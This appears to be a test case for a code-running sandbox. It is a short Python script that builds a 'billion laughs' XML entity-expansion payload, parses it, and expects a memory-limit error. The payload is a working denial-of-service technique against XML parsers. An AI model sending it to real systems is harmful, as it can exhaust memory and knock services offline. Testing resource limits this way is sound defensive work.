# attack: a billion laughs
# verdict: runtime_error memory_limit
import xml.etree.ElementTree as tree

text = '<!DOCTYPE x [<!ENTITY a "' + "ha" * 50 + '">'
for old, new in zip("abcdefgh", "bcdefghi"):
    text += f'<!ENTITY {new} "' + f"&{old};" * 10 + '">'
tree.fromstring(text + "]><x>&i;</x>")
